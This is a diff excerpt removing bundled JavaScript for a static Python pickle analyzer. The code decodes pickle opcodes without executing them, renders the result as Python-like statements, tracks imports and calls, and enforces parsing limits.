-  b.left -= out2.length;
-  return out2;
-}
-function renderRaw(v, names, depth, b) {
-  switch (v.k) {
-    case "none":
-      return "None";
-    case "bool":
-      return v.v ? "True" : "False";
-    case "int":
-      return String(v.v);
-    case "hugeint":
-      return `int(<${v.digits} digits>)`;
-    case "float":
-      return pyFloat(v.v);
-    case "str":
-      return pyStr(v.v);
-    case "bytes":
-      return v.bytearray ? `bytearray(${pyBytes(v.v)})` : pyBytes(v.v);
-    case "global":
-      return names.importExpr(v.imp);
-    case "call":
-      return `_var${v.call}`;
-    case "persid":
-      return names.persidExpr(v.index);
-    case "buffer":
-      return v.readonly ? "memoryview(next_buffer()).toreadonly()" : "next_buffer()";
-    case "unknown":
-      return `<${v.what}>`;
-    default:
-      break;
-  }
-  if (depth >= MAX_DEPTH2 || b.left <= 0) return "...";
-  const items = renderItems(v.items, names, depth + 1, b, v.k === "dict");
-  switch (v.k) {
-    case "list":
-      return `[${items}]`;
-    case "tuple":
-      return v.items.length === 1 ? `(${items},)` : `(${items})`;
-    case "set":
-      return v.items.length === 0 ? "set()" : `{${items}}`;
-    case "frozenset":
-      return v.items.length === 0 ? "frozenset()" : `frozenset({${items}})`;
-    case "dict":
-      return `{${items}}`;
-  }
-}
-function renderItems(items, names, depth, b, pairs = false) {
-  const parts2 = [];
-  const step = pairs ? 2 : 1;
-  for (let i2 = 0; i2 < items.length; i2 += step) {
-    if (parts2.length >= MAX_ITEMS || b.left <= 0) {
-      parts2.push("...");
-      break;
-    }
-    if (pairs) {
-      const key = render(items[i2], names, depth, b);
-      const value = i2 + 1 < items.length ? render(items[i2 + 1], names, depth, b) : "<missing>";
-      parts2.push(`${key}: ${value}`);
-    } else {
-      parts2.push(render(items[i2], names, depth, b));
-    }
-  }
-  return parts2.join(", ");
-}
-function isIdentifier(s) {
-  if (s.length === 0 || s.length > 100) return false;
-  for (let i2 = 0; i2 < s.length; i2++) {
-    const c = s.charCodeAt(i2);
-    const letter = c >= 65 && c <= 90 || c >= 97 && c <= 122 || c === 95;
-    if (!letter && !(i2 > 0 && c >= 48 && c <= 57)) return false;
-  }
-  return true;
-}
-function pyFloat(x) {
-  if (Number.isNaN(x)) return "float('nan')";
-  if (!Number.isFinite(x)) return x > 0 ? "float('inf')" : "float('-inf')";
-  const s = String(x);
-  return /[.e]/.test(s) ? s : `${s}.0`;
-}
-function hex2(c) {
-  return c.toString(16).padStart(2, "0");
-}
-function pyStr(s) {
-  let out2 = "'";
-  const n = Math.min(s.length, MAX_TEXT);
-  for (let i2 = 0; i2 < n; i2++) {
-    const c = s.charCodeAt(i2);
-    if (c === 39) out2 += "\\'";
-    else if (c === 92) out2 += "\\\\";
-    else if (c === 10) out2 += "\\n";
-    else if (c === 13) out2 += "\\r";
-    else if (c === 9) out2 += "\\t";
-    else if (c < 32 || c >= 127 && c < 160) out2 += "\\x" + hex2(c);
-    else out2 += s[i2];
-  }
-  out2 += "'";
-  return s.length > MAX_TEXT ? `${out2}...<${s.length} chars>` : out2;
-}
-function pyBytes(bytes) {
-  let out2 = "b'";
-  const n = Math.min(bytes.length, MAX_TEXT);
-  for (let i2 = 0; i2 < n; i2++) {
-    const c = bytes[i2];
-    if (c === 39) out2 += "\\'";
-    else if (c === 92) out2 += "\\\\";
-    else if (c === 10) out2 += "\\n";
-    else if (c === 13) out2 += "\\r";
-    else if (c === 9) out2 += "\\t";
-    else if (c < 32 || c >= 127) out2 += "\\x" + hex2(c);
-    else out2 += String.fromCharCode(c);
-  }
-  out2 += "'";
-  return bytes.length > MAX_TEXT ? `${out2}...<${bytes.length} bytes>` : out2;
-}
-
-// src/artifacts/pickle/values.ts
-var NONE = { k: "none" };
-var TRUE = { k: "bool", v: true };
-var FALSE = { k: "bool", v: false };
-function isContainer(v) {
-  return v.k === "list" || v.k === "tuple" || v.k === "set" || v.k === "frozenset" || v.k === "dict";
-}
-
-// src/artifacts/pickle/vm.ts
-var PickleError = class extends Error {
-  constructor(message15, offset, kind = "invalid") {
-    super(message15);
-    this.offset = offset;
-    this.kind = kind;
-  }
-  offset;
-  kind;
-  get limit() {
-    return this.kind === "limit";
-  }
-};
-var utf8Strict = new TextDecoder("utf-8", { fatal: true });
-var utf8Lenient = new TextDecoder("utf-8");
-var MAX_EXACT_LONG_BYTES = 64;
-var MAX_EXACT_LONG_DIGITS = 400;
-var ARG_SCAN_PER_CALL = 2e4;
-var ARG_SCAN_TOTAL = 2e6;
-var MAX_STATEMENTS = 1e4;
-var DENSE_MEMO_LIMIT = 1 << 16;
-var BASE64_DECODERS = /* @__PURE__ */ new Set([
-  "base64.b64decode",
-  "base64.standard_b64decode",
-  "base64.urlsafe_b64decode",
-  "base64.decodebytes",
-  "base64.decodestring",
-  "binascii.a2b_base64"
-]);
-var BYTES_WRAPPERS = /* @__PURE__ */ new Set(["io.BytesIO", "_io.BytesIO", "builtins.bytes", "builtins.bytearray"]);
-function runMachine(bytes, options) {
-  return new Machine(bytes, options).run();
-}
-var Machine = class {
-  constructor(bytes, o) {
-    this.bytes = bytes;
-    this.o = o;
-    this.view = new DataView(bytes.buffer, bytes.byteOffset, bytes.byteLength);
-    this.a = {
-      isPickle: false,
-      protocol: null,
-      streams: 0,
-      opcodeCount: 0,
-      bytesConsumed: 0,
-      imports: [],
-      calls: [],
-      persistentIds: [],
-      issues: [],
-      nested: [],
-      statements: this.statements
-    };
-    this.t = {
-      analysis: this.a,
-      importUsedAt: [],
-      importCalledAt: [],
-      importNormalized: [],
-      callCallee: [],
-      mutations: [],
-      unsafeClassArgs: [],
-      argScanExhausted: false,
-      stoppedBy: void 0
-    };
-  }
-  bytes;
-  o;
-  view;
-  pos = 0;
-  opStart = 0;
-  proto = 0;
-  stack = [];
-  /** Stack lengths at each MARK; items below the top mark are fenced off, as in CPython. */
-  marks = [];
-  /** The memo: small indices (the normal case) in an array, the rest in a map. */
-  memoDense = [];
-  memoSparse = /* @__PURE__ */ new Map();
-  memoSize = 0;
-  frameEnd = -1;
-  frameProblem;
-  argScanLeft = ARG_SCAN_TOTAL;
-  importExprs = [];
-  importBindings = /* @__PURE__ */ new Map();
-  usedBindings = /* @__PURE__ */ new Set();
-  persidExprs = [];
-  callArgs = [];
-  a;
-  t;
-  statements = [];
-  run() {
-    const a = this.a;
-    while (this.pos < this.bytes.length) {
-      const checkpoint = this.checkpoint();
-      this.resetStream();
-      try {
-        this.runStream();
-        a.streams++;
-        a.bytesConsumed = this.pos;
-        a.isPickle = true;
-      } catch (e) {
-        if (!(e instanceof PickleError)) throw e;
-        const sawCode = this.sawCodeSince(checkpoint.imports, checkpoint.calls);
-        if (a.streams === 0) {
-          this.t.stoppedBy = e.kind;
-          if (sawCode || a.protocol !== null) a.isPickle = true;
-          if (a.isPickle) this.fail(e);
-        } else if (sawCode || e.limit) {
-          this.fail(e);
-        } else {
-          this.rollback(checkpoint);
-        }
-        break;
-      }
-    }
-    if (!a.isPickle) return this.notAPickle();
-    if (a.error === void 0 && this.frameProblem !== void 0) a.error = this.frameProblem;
-    return this.t;
-  }
-  /**
-   * Whether a failed stream referenced code. Text that happens to start with `c` or `i` reads as a
-   * GLOBAL/INST of a nonsense name; only names that could be Python modules count.
-   */
-  sawCodeSince(imports, calls) {
-    if (this.a.calls.length > calls) return true;
-    for (let i2 = imports; i2 < this.a.imports.length; i2++) {
-      const imp = this.a.imports[i2];
-      if (imp.dynamic || imp.opcode.startsWith("EXT") || isDottedName(imp.module) && isDottedName(imp.name)) return true;
-    }
-    return false;
-  }
-  frameIssue(message15) {
-    if (this.frameProblem === void 0) this.frameProblem = { message: message15, offset: this.opStart };
-  }
-  fail(e) {
-    this.a.error = { message: e.message, offset: e.offset };
-    this.t.stoppedBy = e.kind;
-  }
-  notAPickle() {
-    const a = this.a;
-    a.imports.length = 0;
-    a.calls.length = 0;
-    a.persistentIds.length = 0;
-    a.nested.length = 0;
-    this.statements.length = 0;
-    a.protocol = null;
-    a.bytesConsumed = 0;
-    this.t.importUsedAt.length = 0;
-    this.t.importCalledAt.length = 0;
-    this.t.importNormalized.length = 0;
-    this.t.callCallee.length = 0;
-    this.t.mutations.length = 0;
-    this.t.unsafeClassArgs.length = 0;
-    return this.t;
-  }
-  checkpoint() {
-    const a = this.a;
-    return {
-      imports: a.imports.length,
-      calls: a.calls.length,
-      persids: a.persistentIds.length,
-      nested: a.nested.length,
-      statements: this.statements.length,
-      mutations: this.t.mutations.length,
-      unsafe: this.t.unsafeClassArgs.length,
-      protocol: a.protocol,
-      opcodes: a.opcodeCount
-    };
-  }
-  rollback(c) {
-    const a = this.a;
-    a.imports.length = c.imports;
-    a.calls.length = c.calls;
-    a.persistentIds.length = c.persids;
-    a.nested.length = c.nested;
-    this.statements.length = c.statements;
-    this.t.mutations.length = c.mutations;
-    this.t.unsafeClassArgs.length = c.unsafe;
-    this.t.importUsedAt.length = c.imports;
-    this.t.importCalledAt.length = c.imports;
-    this.t.importNormalized.length = c.imports;
-    this.t.callCallee.length = c.calls;
-    this.importExprs.length = c.imports;
-    this.callArgs.length = c.calls;
-    a.protocol = c.protocol;
-    a.opcodeCount = c.opcodes;
-  }
-  resetStream() {
-    this.stack = [];
-    this.marks = [];
-    this.memoDense = [];
-    this.memoSparse = /* @__PURE__ */ new Map();
-    this.memoSize = 0;
-    this.proto = 0;
-    this.frameEnd = -1;
-  }
-  // ---- RenderNames ----
-  importExpr(imp) {
-    return this.importExprs[imp] ?? "<global>";
-  }
-  persidExpr(index) {
-    return this.persidExprs[index] ?? "persistent_load(...)";
-  }
-  // ---- byte readers ----
-  need(n) {
-    if (n > this.bytes.length - this.pos) {
-      throw new PickleError(`pickle data was truncated (need ${n} bytes)`, this.opStart, "truncated");
-    }
-  }
-  u8() {
-    this.need(1);
-    return this.bytes[this.pos++];
-  }
-  u16() {
-    this.need(2);
-    const v = this.view.getUint16(this.pos, true);
-    this.pos += 2;
-    return v;
-  }
-  i32() {
-    this.need(4);
-    const v = this.view.getInt32(this.pos, true);
-    this.pos += 4;
-    return v;
-  }
-  u32() {
-    this.need(4);
-    const v = this.view.getUint32(this.pos, true);
-    this.pos += 4;
-    return v;
-  }
-  u64() {
-    this.need(8);
-    const lo = this.view.getUint32(this.pos, true);
-    const hi = this.view.getUint32(this.pos + 4, true);
-    this.pos += 8;
-    if (hi >= 2097152) throw new PickleError("length field exceeds 2**53", this.opStart);
-    return hi * 4294967296 + lo;
-  }
-  take(n) {
-    this.need(n);
-    const out2 = this.bytes.subarray(this.pos, this.pos + n);
-    this.pos += n;
-    return out2;
-  }
-  /** Bytes up to (excluding) the next newline; the newline is consumed. */
-  line() {
-    const b = this.bytes;
-    const start2 = this.pos;
-    let i2 = start2;
-    while (i2 < b.length && b[i2] !== 10) i2++;
-    if (i2 >= b.length) throw new PickleError("pickle data was truncated (no newline)", this.opStart, "truncated");
-    this.pos = i2 + 1;
-    return b.subarray(start2, i2);
-  }
-  utf8Line(what) {
-    try {
-      return utf8Strict.decode(this.line());
-    } catch (e) {
-      if (e instanceof PickleError) throw e;
-      throw new PickleError(`${what} is not valid UTF-8`, this.opStart);
-    }
-  }
-  asciiLine(what) {
-    const l = this.line();
-    for (let i2 = 0; i2 < l.length; i2++) {
-      if (l[i2] >= 128) throw new PickleError(`${what} must be ASCII`, this.opStart);
-    }
-    return latin12(l);
-  }
-  decimalLine(what) {
-    const v = parsePythonInt(this.asciiLine(what));
-    if (v === null || typeof v === "bigint") throw new PickleError(`invalid ${what}`, this.opStart);
-    return v;
-  }
-  // ---- stack helpers ----
-  push(v) {
-    if (this.stack.length >= this.o.limits.maxStackDepth) {
-      throw new PickleError(`stack depth limit (${this.o.limits.maxStackDepth}) reached`, this.opStart, "limit");
-    }
-    this.stack.push(v);
-  }
-  fence() {
-    return this.marks.length > 0 ? this.marks[this.marks.length - 1] : 0;
-  }
-  pop() {
-    if (this.stack.length <= this.fence()) throw new PickleError("unpickling stack underflow", this.opStart);
-    return this.stack.pop();
-  }
-  top() {
-    if (this.stack.length <= this.fence()) throw new PickleError("unpickling stack underflow", this.opStart);
-    return this.stack[this.stack.length - 1];
-  }
-  popMark() {
-    if (this.marks.length === 0) throw new PickleError("could not find MARK", this.opStart);
-    const at = this.marks.pop();
-    return this.stack.splice(at);
-  }
-  memoPut(index, v) {
-    const dense = index < DENSE_MEMO_LIMIT;
-    const present = dense ? this.memoDense[index] !== void 0 : this.memoSparse.has(index);
-    if (!present) {
-      if (this.memoSize >= this.o.limits.maxMemoEntries) {
-        throw new PickleError(`memo size limit (${this.o.limits.maxMemoEntries}) reached`, this.opStart, "limit");
-      }
-      this.memoSize++;
-    }
-    if (!dense) this.memoSparse.set(index, v);
-    else {
-      while (this.memoDense.length < index) this.memoDense.push(void 0);
-      this.memoDense[index] = v;
-    }
-  }
-  memoGet(index) {
-    const v = index < DENSE_MEMO_LIMIT ? this.memoDense[index] : this.memoSparse.get(index);
-    if (v === void 0) throw new PickleError(`memo value not found at index ${index}`, this.opStart);
-    return v;
-  }
-  // ---- the machine ----
-  runStream() {
-    const b = this.bytes;
-    const limits = this.o.limits;
-    const budget = this.o.budget;
-    const a = this.a;
-    for (; ; ) {
-      if (this.frameEnd >= 0 && this.pos >= this.frameEnd) this.frameEnd = -1;
-      this.opStart = this.pos;
-      if (this.pos >= b.length) throw new PickleError("pickle data was truncated (no STOP)", this.pos, "truncated");
-      if (a.opcodeCount >= limits.maxOpcodes || budget.opcodes <= 0) {
-        throw new PickleError(`opcode limit (${limits.maxOpcodes}) reached`, this.pos, "limit");
-      }
-      a.opcodeCount++;
-      budget.opcodes--;
-      const op = b[this.pos++];
-      if (this.step(op)) return;
-      if (this.frameEnd >= 0 && this.pos > this.frameEnd) {
-        this.frameIssue("opcode crosses the end of its FRAME (frame length mismatch)");
-      }
-    }
-  }
-  /** Executes one opcode; returns true on STOP. */
-  step(op) {
-    switch (op) {
-      case 128: {
-        const p = this.u8();
-        if (this.a.protocol === null || p > this.a.protocol) this.a.protocol = p;
-        if (p > HIGHEST_PROTOCOL) throw new PickleError(`unsupported pickle protocol: ${p}`, this.opStart);
-        this.proto = p;
-        return false;
-      }
-      case 149: {
-        this.need(8);
-        const n = this.view.getUint32(this.pos, true) + this.view.getUint32(this.pos + 4, true) * 4294967296;
-        this.pos += 8;
-        const remaining = this.bytes.length - this.pos;
-        if (this.frameEnd >= 0 && this.opStart < this.frameEnd) {
-          this.frameIssue("beginning of a new frame before end of current frame");
-        }
-        if (n > remaining) {
-          this.frameIssue(`FRAME length ${n} exceeds the remaining ${remaining} bytes`);
-          this.frameEnd = -1;
-        } else {
-          this.frameEnd = this.pos + n;
-        }
-        return false;
-      }
-      case 46:
-        this.finishStream(this.pop());
-        return true;
-      case 40:
-        if (this.marks.length >= this.o.limits.maxStackDepth) {
-          throw new PickleError(`MARK depth limit (${this.o.limits.maxStackDepth}) reached`, this.opStart, "limit");
-        }
-        this.marks.push(this.stack.length);
-        return false;
-      case 48:
-        if (this.marks.length > 0 && this.stack.length === this.fence()) this.marks.pop();
-        else this.pop();
-        return false;
-      case 49:
-        this.popMark();
-        return false;
-      case 50:
-        this.push(this.top());
-        return false;
-      // ---- constants ----
-      case 78:
-        this.push(NONE);
-        return false;
-      case 136:
-        this.push(TRUE);
-        return false;
-      case 137:
-        this.push(FALSE);
-        return false;
-      case 73: {
-        const text = this.asciiLine("INT argument");
-        if (text === "00") this.push(FALSE);
-        else if (text === "01") this.push(TRUE);
-        else this.push(this.intValue(text, "INT"));
-        return false;
-      }
-      case 76: {
-        let text = this.asciiLine("LONG argument");
-        if (text.endsWith("L")) text = text.slice(0, -1);
-        this.push(this.intValue(text, "LONG"));
-        return false;
-      }
-      case 74:
-        this.push({ k: "int", v: this.i32() });
-        return false;
-      case 75:
-        this.push({ k: "int", v: this.u8() });
-        return false;
-      case 77:
-        this.push({ k: "int", v: this.u16() });
-        return false;
-      case 138:
-        this.push(this.longValue(this.u8()));
-        return false;
-      case 139: {
-        const n = this.i32();
-        if (n < 0) throw new PickleError("LONG pickle has negative byte count", this.opStart);
-        this.push(this.longValue(n));
-        return false;
-      }
-      case 70: {
-        const v = parsePythonFloat(this.asciiLine("FLOAT argument"));
-        if (v === null) throw new PickleError("invalid FLOAT argument", this.opStart);
-        this.push({ k: "float", v });
-        return false;
-      }
-      case 71: {
-        this.need(8);
-        const v = this.view.getFloat64(this.pos, false);
-        this.pos += 8;
-        this.push({ k: "float", v });
-        return false;
-      }
-      case 83: {
-        const l = this.line();
-        const q = l[0];
-        if (l.length < 2 || q !== 34 && q !== 39 || l[l.length - 1] !== q) {
-          throw new PickleError("the STRING opcode argument must be quoted", this.opStart);
-        }
-        const decoded = decodeEscapedString(l.subarray(1, l.length - 1));
-        if (decoded === null) throw new PickleError("invalid escape in STRING argument", this.opStart);
-        this.push({ k: "str", v: latin12(decoded) });
-        return false;
-      }
-      case 84: {
-        const n = this.i32();
-        if (n < 0) throw new PickleError("BINSTRING pickle has negative byte count", this.opStart);
-        this.push({ k: "str", v: latin12(this.take(n)) });
-        return false;
-      }
-      case 85:
-        this.push({ k: "str", v: latin12(this.take(this.u8())) });
-        return false;
-      case 86: {
-        const s = decodeRawUnicodeEscape(this.line());
-        if (s === null) throw new PickleError("invalid raw-unicode-escape in UNICODE argument", this.opStart);
-        this.push({ k: "str", v: s });
-        return false;
-      }
-      case 88:
-        this.push({ k: "str", v: utf8Lenient.decode(this.take(this.u32())) });
-        return false;
-      case 140:
-        this.push({ k: "str", v: utf8Lenient.decode(this.take(this.u8())) });
-        return false;
-      case 141:
-        this.push({ k: "str", v: utf8Lenient.decode(this.take(this.u64())) });
-        return false;
-      case 66:
-        this.push({ k: "bytes", v: this.take(this.u32()), bytearray: false });
-        return false;
-      case 67:
-        this.push({ k: "bytes", v: this.take(this.u8()), bytearray: false });
-        return false;
-      case 142:
-        this.push({ k: "bytes", v: this.take(this.u64()), bytearray: false });
-        return false;
-      case 150:
-        this.push({ k: "bytes", v: this.take(this.u64()), bytearray: true });
-        return false;
-      case 151:
-        this.push({ k: "buffer", readonly: false });
-        return false;
-      case 152: {
-        const v = this.pop();
-        this.push(v.k === "buffer" ? { k: "buffer", readonly: true } : v);
-        return false;
-      }
-      // ---- containers ----
-      case 93:
-        this.push({ k: "list", items: [] });
-        return false;
-      case 41:
-        this.push({ k: "tuple", items: [] });
-        return false;
-      case 125:
-        this.push({ k: "dict", items: [] });
-        return false;
-      case 143:
-        this.push({ k: "set", items: [] });
-        return false;
-      case 108:
-        this.push({ k: "list", items: this.popMark() });
-        return false;
-      case 116:
-        this.push({ k: "tuple", items: this.popMark() });
-        return false;
-      case 145:
-        this.push({ k: "frozenset", items: this.popMark() });
-        return false;
-      case 100: {
-        const items = this.popMark();
-        if (items.length % 2 !== 0) throw new PickleError("odd number of items for DICT", this.opStart);
-        this.push({ k: "dict", items });
-        return false;
-      }
-      case 133: {
-        const x = this.pop();
-        this.push({ k: "tuple", items: [x] });
-        return false;
-      }
-      case 134: {
-        const y = this.pop();
-        const x = this.pop();
-        this.push({ k: "tuple", items: [x, y] });
-        return false;
-      }
-      case 135: {
-        const z = this.pop();
-        const y = this.pop();
-        const x = this.pop();
-        this.push({ k: "tuple", items: [x, y, z] });
-        return false;
-      }
-      case 97: {
-        const v = this.pop();
-        this.addItems(this.top(), [v], "append");
-        return false;
-      }
-      case 101: {
-        const items = this.popMark();
-        this.addItems(this.top(), items, "extend");
-        return false;
-      }
-      case 144: {
-        const items = this.popMark();
-        this.addItems(this.top(), items, "add");
-        return false;
-      }
-      case 115: {
-        const v = this.pop();
-        const k = this.pop();
-        this.setItems(this.top(), [k, v]);
-        return false;
-      }
-      case 117: {
-        const items = this.popMark();
-        if (items.length % 2 !== 0) throw new PickleError("odd number of items for SETITEMS", this.opStart);
-        this.setItems(this.top(), items);
-        return false;
-      }
-      // ---- memo ----
-      case 112: {
-        const i2 = this.decimalLine("PUT argument");
-        if (i2 < 0) throw new PickleError("negative PUT argument", this.opStart);
-        this.memoPut(i2, this.top());
-        return false;
-      }
-      case 113:
-        this.memoPut(this.u8(), this.top());
-        return false;
-      case 114:
-        this.memoPut(this.u32(), this.top());
-        return false;
-      case 148:
-        this.memoPut(this.memoSize, this.top());
-        return false;
-      case 103:
-        this.push(this.memoGet(this.decimalLine("GET argument")));
-        return false;
-      case 104:
-        this.push(this.memoGet(this.u8()));
-        return false;
-      case 106:
-        this.push(this.memoGet(this.u32()));
-        return false;
-      // ---- globals, calls, persistence ----
-      case 99: {
-        const module2 = this.utf8Line("GLOBAL module");
-        const name2 = this.utf8Line("GLOBAL name");
-        this.push({ k: "global", imp: this.addImport(module2, name2, "GLOBAL", false) });
-        return false;
-      }
-      case 147: {
-        const name2 = this.pop();
-        const module2 = this.pop();
-        if (module2.k === "str" && name2.k === "str") {
-          this.push({ k: "global", imp: this.addImport(module2.v, name2.v, "STACK_GLOBAL", false) });
-        } else {
-          const m = renderValue(module2, this, 80);
-          const n = renderValue(name2, this, 80);
-          this.push({ k: "global", imp: this.addImport(m, n, "STACK_GLOBAL", true) });
-        }
-        return false;
-      }
-      case 105: {
-        const module2 = this.utf8Line("INST module");
-        const name2 = this.utf8Line("INST name");
-        const imp = this.addImport(module2, name2, "INST", false);
-        const args2 = this.popMark();
-        this.call("INST", { k: "global", imp }, { k: "tuple", items: args2 });
-        return false;
-      }
-      case 130:
-        this.extension(this.u8());
-        return false;
-      case 131:
-        this.extension(this.u16());
-        return false;
-      case 132:
-        this.extension(this.i32());
-        return false;
-      case 82: {
-        const args2 = this.pop();
-        const callee = this.pop();
-        this.call("REDUCE", callee, args2);
-        return false;
-      }
-      case 129: {
-        const args2 = this.pop();
-        const cls = this.pop();
-        this.call("NEWOBJ", cls, args2);
-        return false;
-      }
-      case 146: {
-        const kwargs = this.pop();
-        const args2 = this.pop();
-        const cls = this.pop();
-        this.call("NEWOBJ_EX", cls, args2, kwargs);
-        return false;
-      }
-      case 111: {
-        const items = this.popMark();
-        if (items.length === 0) throw new PickleError("OBJ without a class", this.opStart);
-        this.call("OBJ", items[0], { k: "tuple", items: items.slice(1) });
-        return false;
-      }
-      case 98: {
-        const state = this.pop();
-        this.build(this.top(), state);
-        return false;
-      }
-      case 80:
-        this.persistent(latin12(this.asciiPersid()));
-        return false;
-      case 81: {
-        const pid = this.pop();
-        this.persistent(renderValue(pid, this), pid);
-        return false;
-      }
-      default:
-        throw new PickleError(`invalid opcode 0x${op.toString(16).padStart(2, "0")}`, this.opStart);
-    }
-  }
-  asciiPersid() {
-    const l = this.line();
-    for (let i2 = 0; i2 < l.length; i2++) {
-      if (l[i2] >= 128) throw new PickleError("persistent IDs in protocol 0 must be ASCII strings", this.opStart);
-    }
-    return l;
-  }
-  intValue(text, what) {
-    if (text.length > MAX_EXACT_LONG_DIGITS) {
-      if (parsePythonInt(text.slice(0, 40)) === null) throw new PickleError(`invalid ${what} argument`, this.opStart);
-      return { k: "hugeint", digits: text.length };
-    }
-    const v = parsePythonInt(text);
-    if (v === null) throw new PickleError(`invalid ${what} argument`, this.opStart);
-    return { k: "int", v };
-  }
-  /** Little-endian two's complement integer of n bytes (LONG1/LONG4). */
-  longValue(n) {
-    const data = this.take(n);
-    if (n === 0) return { k: "int", v: 0 };
-    if (n > MAX_EXACT_LONG_BYTES) return { k: "hugeint", digits: n };
-    let v = 0n;
-    for (let i2 = n - 1; i2 >= 0; i2--) v = v << 8n | BigInt(data[i2]);
-    if (data[n - 1] & 128) v -= 1n << BigInt(8 * n);
-    const small = Number(v);
-    return { k: "int", v: Number.isSafeInteger(small) ? small : v };
-  }
-  finishStream(result2) {
-    const name2 = this.a.streams === 0 ? "result" : `result_${this.a.streams}`;
-    this.statement(`${name2} = ${renderValue(result2, this)}`);
-  }
-  statement(s) {
-    if (this.statements.length < MAX_STATEMENTS) this.statements.push(s);
-    else if (this.statements.length === MAX_STATEMENTS) this.statements.push("# ... further statements omitted");
-  }
-  addImport(module2, name2, opcode, dynamic) {
-    const imp = this.a.imports.length;
-    let normalized;
-    if (dynamic) {
-      normalized = "<dynamic>";
-      this.importExprs.push(`getattr(__import__(${module2}), ${name2})`);
-      this.t.importNormalized.push(["", ""]);
-    } else {
-      const n = normalizeGlobal(module2, name2, this.proto);
-      normalized = n.qualified;
-      this.importExprs.push(this.bindImport(n.module, n.name));
-      this.t.importNormalized.push([n.module, n.name]);
-    }
-    const record = { module: module2, name: name2, normalized, opcode, offset: this.opStart, dynamic };
-    this.a.imports.push(record);
-    this.t.importUsedAt.push(-1);
-    this.t.importCalledAt.push(-1);
-    return imp;
-  }
-  /** Chooses the Python expression a `from module import first` binding gives this global. */
-  bindImport(module2, name2) {
-    const dot = name2.indexOf(".");
-    const first = dot < 0 ? name2 : name2.slice(0, dot);
-    const rest = dot < 0 ? "" : name2.slice(dot);
-    const key = `${module2}\0${first}`;
-    let binding = this.importBindings.get(key);
-    if (binding === void 0) {
-      binding = first;
-      for (let i2 = 2; this.usedBindings.has(binding); i2++) binding = `${first}_${i2}`;
-      this.usedBindings.add(binding);
-      this.importBindings.set(key, binding);
-      this.statement(binding === first ? `from ${module2} import ${first}` : `from ${module2} import ${first} as ${binding}`);
-    }
-    return binding + rest;
-  }
-  extension(code3) {
-    const imp = this.a.imports.length;
-    const opcode = OPCODE_NAMES[this.bytes[this.opStart]];
-    this.a.imports.push({
-      module: "copyreg._extension_registry",
-      name: String(code3),
-      normalized: `<extension ${code3}>`,
-      opcode,
-      offset: this.opStart,
-      dynamic: false
-    });
-    this.importExprs.push(`copyreg._inverted_registry[${code3}]`);
-    this.t.importNormalized.push(["", ""]);
-    this.t.importUsedAt.push(-1);
-    this.t.importCalledAt.push(-1);
-    this.push({ k: "global", imp });
-  }
-  persistent(rendered, pid) {
-    const index = this.persidExprs.length;
-    this.persidExprs.push(`persistent_load(${pid === void 0 ? renderValue({ k: "str", v: rendered }, this) : rendered})`);
-    this.a.persistentIds.push({ offset: this.opStart, value: rendered });
-    if (pid !== void 0) this.markArguments(pid);
-    this.push({ k: "persid", index });
-  }
-  calleeName(v) {
-    if (v.k === "global") {
-      const imp = this.a.imports[v.imp];
-      return { name: imp.dynamic ? "<unknown>" : imp.normalized, imp: v.imp };
-    }
-    return { name: "<unknown>", imp: -1 };
-  }
-  call(opcode, callee, args2, kwargs) {
-    const index = this.a.calls.length;
-    const { name: name2, imp } = this.calleeName(callee);
-    const f = renderValue(callee, this);
-    let rendered = renderArgs(args2, this);
-    if (kwargs !== void 0) {
-      const kw = renderKwargs(kwargs, this);
-      if (kw.length > 0) rendered = rendered.length > 0 ? `${rendered}, ${kw}` : kw;
-    }
-    const record = { callee: name2, opcode, offset: this.opStart, args: rendered };
-    this.a.calls.push(record);
-    this.t.callCallee.push(imp);
-    const argList = args2.k === "tuple" ? args2.items : [args2];
-    this.callArgs.push(argList);
-    if (imp >= 0) {
-      if (this.t.importCalledAt[imp] === -1) this.t.importCalledAt[imp] = this.opStart;
-      if (this.t.importUsedAt[imp] === -1) this.t.importUsedAt[imp] = this.opStart;
-    }
-    this.markArguments(args2);
-    if (kwargs !== void 0) this.markArguments(kwargs);
-    if (opcode === "NEWOBJ" || opcode === "NEWOBJ_EX") {
-      const sep4 = rendered.length > 0 ? ", " : "";
-      this.statement(`_var${index} = ${f}.__new__(${f}${sep4}${rendered})`);
-    } else {
-      this.statement(`_var${index} = ${f}(${rendered})`);
-    }
-    if (this.o.classArgHelpers.has(name2)) {
-      const cls = argList[0];
-      if (cls === void 0 || cls.k !== "global") this.t.unsafeClassArgs.push({ offset: this.opStart, callee: name2 });
-    }
-    if (this.o.nested.isLoadsLike(name2) && argList.length > 0) this.nestedPickle(argList[0]);
-    this.push({ k: "call", call: index });
-  }
-  build(target, state) {
-    const offset = this.opStart;
-    let callee = "<unknown>";
-    if (target.k === "global") {
-      callee = this.calleeName(target).name;
-      this.t.mutations.push({ offset, imp: target.imp });
-    } else if (target.k === "call") {
-      callee = this.a.calls[target.call].callee;
-    }
-    const rendered = renderValue(state, this);
-    this.a.calls.push({ callee, opcode: "BUILD", offset, args: rendered });
-    this.t.callCallee.push(-1);
-    this.callArgs.push([state]);
-    this.markArguments(state);
-    this.statement(`${renderValue(target, this)}.__setstate__(${rendered})`);
-  }
-  addItems(target, items, method) {
-    if (target.k === "list" || target.k === "set") {
-      for (const v of items) target.items.push(v);
-      return;
-    }
-    if (target.k === "bytes" && target.bytearray) return;
-    if (target.k === "tuple" || target.k === "frozenset" || target.k === "dict" || !this.isObject(target)) {
-      throw new PickleError(`cannot ${method} to a ${target.k}`, this.opStart);
-    }
-    for (const v of items) this.markArguments(v);
-    const t = renderValue(target, this);
-    if (method === "extend") {
-      this.statement(`${t}.extend(${renderValue({ k: "list", items }, this)})`);
-    } else {
-      for (const v of items) this.statement(`${t}.${method}(${renderValue(v, this)})`);
-    }
-  }
-  setItems(target, items) {
-    if (target.k === "dict") {
-      for (const v of items) target.items.push(v);
-      return;
-    }
-    if (target.k === "list") {
-      for (let i2 = 0; i2 + 1 < items.length; i2 += 2) {
-        const key = items[i2];
-        if (key.k !== "int" || typeof key.v !== "number") continue;
-        const at = key.v < 0 ? target.items.length + key.v : key.v;
-        if (at >= 0 && at < target.items.length) target.items[at] = items[i2 + 1];
-      }
-      return;
-    }
-    if (target.k === "bytes" && target.bytearray) return;
-    if (isContainer(target) || !this.isObject(target)) {
-      throw new PickleError(`cannot set items on a ${target.k}`, this.opStart);
-    }
-    for (const v of items) this.markArguments(v);
-    for (let i2 = 0; i2 + 1 < items.length; i2 += 2) {
-      this.statement(`${renderValue(target, this)}[${renderValue(items[i2], this)}] = ${renderValue(items[i2 + 1], this)}`);
-    }
-  }
